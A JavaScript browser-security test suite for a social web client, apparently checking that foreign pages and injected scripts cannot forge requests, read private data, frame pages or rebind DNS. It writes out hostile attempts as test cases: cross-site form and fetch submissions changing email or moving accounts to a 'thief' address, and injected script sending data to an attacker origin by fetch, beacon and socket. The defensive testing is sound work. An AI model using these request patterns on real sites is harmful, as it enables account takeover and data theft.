// SPDX-License-Identifier: AGPL-3.0-or-later
// What pages of others can do to who is signed in with the web client: who a request is of, by method, origin, site,
// authorization and cookie, each line as a browser sends it; and every attack of the design. Nothing may have been written.
import assert from 'node:assert/strict';
import { signIn } from '../support/browser.js';
import { close, openClient } from '../support/client.js';
import { embedded, eventsOpen, fetched, socketOpens, startForeign, submitted } from '../support/foreign.js';
import { browser, get, password, person, post, server, status } from '../support/stage.js';

const own = new RegExp('.'); // pages here are made to break policies
const proofOf = (page) => page.evaluate(() => document.querySelector('meta[name="dunlin-authorization"]').content);
const formProof = async (page) => /name="authenticity_token" value="([^"]+)"/.exec(await (await page.request.get(`${server.url}/settings/account/password`)).text())[1];

// All of somebody's that a request might have changed.
async function state(who) {
  const me = await who.api.v1.accounts.verifyCredentials();
  const posts = await who.account.statuses.list({ limit: 40 });
  const [drafts, scheduled] = await Promise.all(['/api/dunlin/v1/drafts', '/api/v1/scheduled_statuses'].map(async (path) => (await get(path, who.token)).text()));
  return { ...me, lastStatusAt: 0, posts: posts.map(({ id, content }) => [id, content]), drafts, scheduled };
}

async function tabAt(context, url) {
  const page = await context.newPage();
  await page.goto(url);
  return page;
}

const authorizations = ['none', 'hers', 'of another', 'form', 'token'];

// Each method once, with words that tell which request they came by.
function requests(place, authorization, header, credentials, ids) {
  const words = `${place}, ${authorization}, ${credentials}`;
  const headers = { 'Content-Type': 'application/x-www-form-urlencoded', ...(header && { Authorization: header }) };
  const mine = `${server.url}/api/v1/accounts/verify_credentials`;
  const form = (fields) => new URLSearchParams(fields).toString();
  return [
    { url: mine, headers: header ? { Authorization: header } : {}, credentials },
    { url: mine, method: 'HEAD', headers: header ? { Authorization: header } : {}, credentials },
    { url: `${server.url}/api/v1/statuses`, method: 'POST', headers, credentials, body: form({ status: words }) },
    { url: `${server.url}/api/v1/statuses/${ids.edited}`, method: 'PUT', headers, credentials, body: form({ status: words }) },
    { url: `${server.url}/api/v1/accounts/update_credentials`, method: 'PATCH', headers, credentials, body: form({ note: words }) },
    { url: `${server.url}/api/v1/statuses/${ids.doomed}`, method: 'DELETE', headers, credentials },
  ];
}

// What a browser makes of it, by the rule: a session is the cookie and the proof, asked for by pages of ours.
function expected(place, authorization, credentials) {
  if (place.startsWith('a page of others') && credentials === 'include') return 'blocked'; // `*` is no answer to it
  if (authorization === 'token') return 200;
  return place === 'ours' && authorization === 'hers' && credentials === 'include' ? 200 : 401;
}

async function sessionTable() {
  const [alice, bob] = [await person('for_alice'), await person('for_bob')];
  const foreign = await startForeign();
  const ours = await openClient(alice, { expected: /the context is sandboxed/ });
  const his = await openClient(bob);
  const bare = await openClient(alice);
  const headers = { none: '', hers: await proofOf(ours), 'of another': await proofOf(his), form: 'Session ' + (await formProof(ours)), token: 'Bearer ' + alice.token };
  await bare.context().clearCookies();
  const context = ours.context();
  const same = await tabAt(context, foreign.sameSite + '/page');
  const other = await tabAt(context, foreign.otherSite + '/page');
  const places = { ours, 'ours, by another': his, 'ours, without the cookie': bare, 'a page of others on this site': same, 'a page of others elsewhere': other, 'a page of others of no origin': same.frames()[2] };
  const written = [];
  const make = async () => ({ edited: (await post(alice, 'as it was')).id, doomed: (await post(alice, 'to be gone')).id });
  let ids = await make();
  let before = await state(alice);
  for (const [place, frame] of Object.entries(places))
    for (const authorization of authorizations)
      for (const credentials of ['hers', 'token'].includes(authorization) ? ['include', 'omit'] : ['include']) {
        const what = `${place}, ${authorization}, ${credentials}`;
        const answers = await fetched(frame, requests(place, authorization, headers[authorization], credentials, ids));
        const wanted = expected(place, authorization, credentials);
        // Who shows the proof of his own cookie is himself, and has none of her posts.
        const himself = what === 'ours, by another, of another, include';
        assert.deepEqual(answers, himself ? [200, 200, 200, 404, 200, 404] : answers.map(() => wanted), what);
        const after = await state(alice);
        if (wanted !== 200) {
          assert.deepEqual(after, before, what);
          continue;
        }
        written.push(what);
        const [[, said], [, edited], [gone]] = [...after.posts, ['nothing']];
        assert.deepEqual([said, edited, after.source.note], [`<p>${what}</p>`, `<p>${what}</p>`, what]);
        assert.notEqual(gone, ids.doomed);
        ids = await make();
        before = await state(alice);
      }
  // Of 42, that of our page with the proof, and those of her own token.
  assert.equal(written.length, 1 + 3 * 2 + 3 * 1);
  for (const page of [ours, his, bare]) await close(page);
  foreign.close();
}

// A window of others in the browser of who is signed in, on this site or on another; what it tries must change nothing.
async function nothingHappens(name, attack) {
  const alice = await person(name);
  const theirs = await post(alice, 'what she wrote');
  const foreign = await startForeign();
  const page = await openClient(alice, { expected: own, worker: true });
  const proof = (await proofOf(page)).replace('Session ', '');
  const before = await state(alice);
  for (const origin of [foreign.sameSite, foreign.otherSite]) {
    const tab = await tabAt(page.context(), origin + '/page');
    await attack(tab, { alice, proof, theirs, page, foreign });
    assert.deepEqual(await state(alice), before, `${origin} has changed something`);
    await tab.close();
  }
  // She is signed in as before.
  assert.deepEqual(await fetched(page, [{ url: '/api/v1/accounts/verify_credentials', headers: { Authorization: 'Session ' + proof } }]), [200]);
  await close(page);
  foreign.close();
}

const paths = ['/api/v1/statuses', '/api/web/session', '/auth/sign_out', '/auth/sign_in', '/settings/account/email', '/settings/account/password', '/settings/account/deletion', '/settings/account/aliases', '/settings/account/move', '/settings/account/language', '/settings/account/sessions/end_others', '/settings/account/second_factor/app', '/settings/account/transfer/archive', '/oauth/authorize'];
const fields = { status: 'by force', account: 'thief@127.0.0.1', email: 'thief@example.org', password, current: password, password_confirmation: password, sure: '1', language: 'de', 'user[email]': 'for_thief@example.org', 'user[password]': password, authenticity_token: '', _method: 'delete' };

// With the address and the password of before.
async function signsIn(name) {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${server.url}/auth/sign_in`);
  await signIn(page, `${name}@example.org`, password);
  await page.waitForURL(`${server.url}/home`);
  await context.close();
}

async function forms(tab, { foreign }) {
  const enctypes = ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'];
  await submitted(tab, enctypes.map((enctype) => ({ action: server.url + paths[0], enctype, fields })));
  const far = tab.url().startsWith(foreign.otherSite); // forms from there come without the cookie
  await submitted(tab, paths.slice(1, far ? 6 : paths.length).map((path) => ({ action: server.url + path, fields })));
  await submitted(tab, ['/api/v1/statuses', '/auth/sign_out', '/share'].map((path) => ({ action: server.url + path, method: 'get', fields })));
  const refused = async (path) => {
    const [popup] = await Promise.all([tab.context().waitForEvent('page'), submitted(tab, [{ action: server.url + path, fields }], '_blank')]);
    await popup.waitForURL((url) => url.href.startsWith(server.url));
    const answer = await popup.evaluate(() => performance.getEntriesByType('navigation')[0].responseStatus);
    assert.ok(answer >= 400, `${path} is answered with ${answer}`);
    await popup.close();
  };
  for (const path of ['/api/v1/statuses', '/auth/sign_in', '/oauth/authorize']) await refused(path);
  await signsIn('for_forms');
}

async function fetches(tab, { theirs, proof, page }) {
  const simple = { mode: 'no-cors', credentials: 'include', method: 'POST' };
  const types = ['application/x-www-form-urlencoded', 'text/plain'];
  const opaque = paths.flatMap((path) => types.map((type) => ({ ...simple, url: server.url + path, headers: { 'Content-Type': type }, body: type === 'text/plain' ? '{"status":"by force"}' : 'status=by+force&email=thief@example.org' })));
  for (const answer of await fetched(tab, opaque)) assert.match(String(answer), /opaque|blocked/);
  // Without asking, a browser sends neither other methods nor what authorizes.
  const preflighted = ['PUT', 'PATCH', 'DELETE', 'POST'].map((method) => ({ url: `${server.url}/api/v1/statuses/${theirs.id}`, method, credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{"status":"by force"}' }));
  const proven = [{ url: `${server.url}/api/v1/statuses`, method: 'POST', credentials: 'include', headers: { Authorization: 'Session ' + proof }, body: 'status=by+force' }];
  assert.deepEqual(await fetched(tab, [...preflighted, ...proven]), ['blocked', 'blocked', 'blocked', 'blocked', 'blocked']);
  const token = paths.map((path) => `${server.url}${path}?status=by+force`);
  await tab.evaluate((all) => all.forEach((url) => navigator.sendBeacon(url, new URLSearchParams({ status: 'by force' }))), token);
  await embedded(tab, token.flatMap((url) => [['img', url], ['script', url], ['link', url]]));
  assert.equal(await socketOpens(tab, server.url, ['session.' + proof]), 'refused', 'a socket, with the proof and the cookie');
  assert.equal(await socketOpens(page, server.url, ['session.' + proof]), 'open', 'the same socket, by a page of ours');
  assert.equal(await eventsOpen(tab, server.url), 'refused', 'server-sent events');
}

async function navigations(tab) {
  const address = (path) => server.url + path;
  const opened = async (path) => {
    const [popup] = await Promise.all([tab.context().waitForEvent('page'), tab.evaluate((url) => void (window.popup = open(url)), address(path))]);
    await popup.waitForLoadState();
    return popup;
  };
  for (const path of ['/auth/sign_out', '/intent?text=by+force', '/home']) {
    const popup = await opened(path);
    await popup.locator('h1').first().waitFor();
    // Neither the page nor what it shows is within reach.
    const reached = await tab.evaluate(() => {
      try {
        return window.popup.closed ? 'nothing' : window.popup.document.title;
      } catch {
        return 'nothing';
      }
    });
    assert.equal(reached, 'nothing', path);
    if (path.startsWith('/home')) assert.equal(await popup.evaluate(() => window.opener), null, 'the client knows who opened it');
    await popup.close();
  }
  // An app is given nothing unasked.
  const popup = await opened(`/oauth/authorize?response_type=code&client_id=x&redirect_uri=${encodeURIComponent(tab.url())}&scope=write`);
  assert.ok(popup.url().startsWith(server.url));
  await popup.close();
}

async function readings(tab, { alice, theirs, foreign }) {
  const hidden = (await post(alice, 'for friends alone', { visibility: 'private' })).id;
  const secrets = ['/web/start?for=/home', '/home', '/', '/settings/account', '/settings/account/password', `/@${alice.name}/${hidden}`];
  const read = (path) => ['include', 'omit'].map((credentials) => ({ url: server.url + path, credentials, headers: { Accept: 'text/html' } }));
  for (const path of secrets) assert.deepEqual(await fetched(tab, read(path)), ['blocked', 'blocked'], path);
  // Programs in browsers read profiles, but as nobody.
  assert.deepEqual(await fetched(tab, read(`/@${alice.name}`)), ['blocked', 200]);
  // Not even as something whose size or error would tell.
  const start = tab.waitForResponse(/\/web\/start/);
  await fetched(tab, [{ url: server.url + '/web/start?for=/home', mode: 'no-cors', credentials: 'include' }]);
  assert.equal((await start).status(), 403);
  // Nor by whether it comes at all: whoever is signed in or not, it is the page to sign in.
  assert.deepEqual(await fetched(tab, [{ url: server.url + '/home', mode: 'no-cors', credentials: 'include' }]), ['opaque']);
  const elements = ['script', 'img', 'link'].flatMap((tag) => ['/web/start?for=/home', '/home', '/api/v1/accounts/verify_credentials'].map((path) => [tag, server.url + path]));
  assert.deepEqual(await embedded(tab, elements), elements.map(() => 'refused'));
  for (const path of [...secrets, '/auth/sign_in', '/oauth/authorize', '/api/v1/accounts/verify_credentials']) {
    await tab.evaluate(({ url }) => new Promise((resolve) => {
      const frame = document.querySelector('iframe[name=target]');
      frame.onload = resolve;
      frame.src = url;
    }), { url: server.url + path });
    const frame = tab.frames().find((one) => one.name() === 'target');
    assert.ok(!frame.url().startsWith(server.url), `${path} is in a frame`);
  }
  // What may be framed is what everybody sees, whoever looks.
  const framed = async (id) => {
    await tab.evaluate((url) => new Promise((resolve) => {
      const frame = document.querySelector('iframe[name=target]');
      frame.onload = resolve;
      frame.src = url;
    }), `${server.url}/@${alice.name}/${id}/embed`);
    return tab.frames().find((one) => one.name() === 'target').locator('html').innerText().catch(() => '');
  };
  assert.match(await framed(theirs.id), /what she wrote/);
  assert.doesNotMatch(await framed(hidden), /for friends alone/);
  const registered = await tab.evaluate((url) => navigator.serviceWorker?.register(url).then(() => 'registered', () => 'refused') ?? 'refused', server.url + '/sw.js');
  assert.equal(registered, 'refused', 'the worker, by a page of others');
  await status(alice, hidden).remove();
}

// What gets into the client as a script, and is on our own origin.
async function injection() {
  const alice = await person('for_injected');
  const foreign = await startForeign();
  const page = await openClient(alice, { expected: own, worker: true });
  const before = await state(alice);
  const outcome = await page.evaluate(async (evil) => {
    await new Promise((resolve) => setTimeout(resolve)); // no longer what the test's own call may do
    const out = {};
    const attempt = async (name, act) => {
      try {
        out[name] = (await act()) ?? 'done';
      } catch (error) {
        out[name] = error.name;
      }
    };
    const loads = (tag, fill) =>
      new Promise((resolve) => {
        const element = document.createElement(tag);
        element.onload = () => resolve('loaded');
        element.onerror = () => resolve('refused');
        fill(element);
        document.body.append(element);
        setTimeout(resolve, 500, 'nothing');
      });
    await attempt('innerHTML', () => void (document.body.lastElementChild.innerHTML = '<b>x</b>'));
    await attempt('a script address', () => void (document.createElement('script').src = evil + '/x.js'));
    await attempt('the text of a script', () => void (document.createElement('script').text = 'window.ran = 1'));
    await attempt('eval', () => (0, eval)('window.ran = 1'));
    await attempt('a function of text', () => new Function('window.ran = 1')());
    await attempt('a timer of text', () => void setTimeout('window.ran = 1', 0));
    await attempt('another policy', () => void trustedTypes.createPolicy('mine', { createHTML: (text) => text }));
    await attempt('the policy again', () => void trustedTypes.createPolicy('dunlin-content', { createHTML: (text) => text }));
    await attempt('fetch', () => fetch(evil + '/fetch', { mode: 'no-cors' }));
    await attempt('a picture', () => loads('img', (image) => (image.src = evil + '/picture')));
    await attempt('a frame', () => loads('iframe', (frame) => (frame.src = evil + '/frame')));
    await attempt('a sheet', () => loads('link', (link) => ((link.rel = 'stylesheet'), (link.href = evil + '/sheet'))));
    await attempt('an attribute', () => void document.body.setAttribute('onclick', 'window.ran = 1'));
    await attempt('a socket', () => new Promise((resolve) => {
      const socket = new WebSocket(evil.replace('http', 'ws') + '/socket');
      socket.onerror = () => resolve('refused');
      socket.onopen = () => resolve('open');
    }));
    await attempt('a beacon', () => void navigator.sendBeacon(evil + '/beacon', 'x'));
    await attempt('a worker of others', () => navigator.serviceWorker.register('/static/logo.png'));
    await attempt('a base', () => {
      document.head.append(Object.assign(document.createElement('base'), { href: evil }));
      return new URL('x', document.baseURI).origin === location.origin ? 'refused' : 'taken';
    });
    await attempt('a form', () => {
      const form = Object.assign(document.createElement('form'), { action: evil + '/form', method: 'post' });
      document.body.append(form);
      form.submit();
    });
    document.body.click();
    await new Promise((resolve) => setTimeout(resolve, 300));
    out.ran = 'ran' in window;
    out.cookie = document.cookie;
    return out;
  }, foreign.sameSite);
  const { ran, cookie, ...rest } = outcome;
  assert.equal(ran, false, 'text ran as a script');
  assert.doesNotMatch(cookie, /session/, 'a script reads the cookie');
  assert.deepEqual(foreign.heard, [], 'something got out');
  const stopped = /Error|refused|nothing/;
  for (const [name, what] of Object.entries(rest)) if (!['an attribute', 'a beacon', 'a form', 'a frame'].includes(name)) assert.match(what, stopped, name);
  assert.ok(page.context().heard.some((line) => /a policy was broken: script-src|TrustedHTML/.test(line)), 'the browser complains of it');

  // It reads the pages of the account, and can do nothing there without the password.
  const tried = await page.evaluate(async () => {
    const out = {};
    for (const [path, more] of [['email', { email: 'thief@example.org' }], ['password', { password: 'a new password', password_confirmation: 'a new password' }], ['move', { account: 'thief@example.org' }], ['deletion', { sure: '1' }], ['second_factor/app', {}], ['second_factor/passkey', {}], ['second_factor/codes', {}]]) {
      const from = await (await fetch('/settings/account/' + path.split('/')[0])).text();
      const token = /name="authenticity_token" value="([^"]+)"/.exec(from)?.[1] ?? '';
      const answer = await fetch('/settings/account/' + path, { method: 'POST', body: new URLSearchParams({ authenticity_token: token, password: 'wrong', current: 'wrong', ...more }) });
      out[path] = `${token.length > 20} ${answer.status >= 400 || /class="problem"/.test(await answer.text())}`;
    }
    return out;
  });
  for (const [path, done] of Object.entries(tried)) assert.equal(done, path === 'second_factor/codes' ? done : 'true true', path);
  assert.deepEqual(await state(alice), before);
  await signsIn('for_injected');
  await close(page);
  foreign.close();
}

// A name of others that leads to our address: the page has our port, and the cookie stays with our name.
async function rebinding() {
  const alice = await person('for_rebound');
  const page = await openClient(alice);
  const proof = await proofOf(page);
  const rebound = server.url.replace('localhost', 'rebound.test');
  // Its script came from a server of others, which has no policy.
  const context = await browser.newContext({ bypassCSP: true });
  await context.addCookies(await page.context().cookies());
  const tab = await tabAt(context, rebound + '/about');
  assert.deepEqual(
    await fetched(tab, [
      { url: '/health' },
      { url: '/api/v1/accounts/verify_credentials', headers: { Authorization: proof } },
      { url: '/api/v1/statuses', method: 'POST', headers: { Authorization: proof }, body: new URLSearchParams({ status: 'rebound' }).toString() },
      { url: '/api/v2/instance' },
      { url: '/web/start?for=/home' },
    ]),
    [200, 421, 421, 421, 401],
  );
  await context.addCookies([{ name: 'dunlin_session', value: 'A'.repeat(43), url: rebound }]);
  assert.deepEqual(await fetched(tab, [{ url: '/web/start?for=/home' }]), [401]);
  assert.equal(await socketOpens(tab, rebound, [proof.replace('Session ', 'session.')]), 'refused');
  await context.close();
  await close(page);
}

export default {
  'who a request is of: method, origin, site, authorization and cookie, as a browser sends them': sessionTable,
  'forms of other pages write nothing, nor sign anybody in or out': () => nothingHappens('for_forms', forms),
  'fetches, beacons, pictures and streams of other pages write and hear nothing': () => nothingHappens('for_fetches', fetches),
  'a window that another page opened does nothing by itself, and is out of its reach': () => nothingHappens('for_windows', navigations),
  'another page reads neither the proof nor an answer, and frames no page of ours': () => nothingHappens('for_readings', readings),
  'a script that gets in sends nothing out, and has neither the cookie nor the account': injection,
  'a name of others that leads here is not answered': rebinding,
};
